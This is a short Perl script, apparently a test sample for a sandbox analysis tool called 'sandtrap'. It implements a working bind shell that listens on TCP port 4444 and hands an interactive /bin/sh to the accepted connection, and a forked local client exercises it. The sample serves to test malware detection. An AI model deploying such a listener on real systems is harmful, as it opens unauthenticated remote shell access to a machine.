#!/usr/bin/perl
# Bind shell in perl: listens on TCP 4444, forks a local client that sends commands, and execs /bin/sh on the accepted socket.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
use strict;
use IO::Socket::INET;
alarm 4;
my $srv = IO::Socket::INET->new(LocalPort => 4444, Listen => 1, ReuseAddr => 1, Proto => 'tcp') or die "listen: $!";
if (fork() == 0) {
    select(undef, undef, undef, 0.3);
    my $c = IO::Socket::INET->new(PeerAddr => '127.0.0.1:4444') or exit 1;
    print $c "id; exit\n";
    my $l = <$c>; print "client got: $l";
    exit 0;
}
my $conn = $srv->accept or die;
open(STDIN, "<&", $conn); open(STDOUT, ">&", $conn); open(STDERR, ">&", $conn);
exec("/bin/sh", "-i");
